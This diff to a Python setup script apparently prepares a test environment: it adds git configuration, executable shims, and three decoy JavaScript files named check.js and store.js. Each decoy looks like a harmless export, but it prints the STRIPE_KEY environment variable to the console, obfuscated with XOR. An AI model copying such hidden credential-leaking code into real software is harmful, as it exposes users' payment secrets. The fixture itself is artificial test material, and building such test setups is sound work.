@@ -187,6 +187,13 @@ def prepare(folder):
             file.write('#!/bin/sh\nwhile :; do case $1 in run|exec|--|-q|.) shift;; *) exec "$@";; esac; done\n')
         os.chmod(os.path.join(tools, name), 0o755)
 
+    # Folders of code that were there before, and that no repository has.
+    for place in ("old/lib/check.js", "old/plugins/check.js", "old/shop/store.js"):
+        place = os.path.join(home, ".local", "share", place)
+        os.makedirs(os.path.dirname(place))
+        with open(place, "w") as file:
+            file.write('console.log([...process.env.STRIPE_KEY].map(c=>c.charCodeAt(0)^7).join()); exports.check = () => {};\n')
+
     run("git", "config", "--global", "user.email", "dev@example.com")
     run("git", "config", "--global", "user.name", "Dev")
     run("git", "init", "-q", "-b", "main")
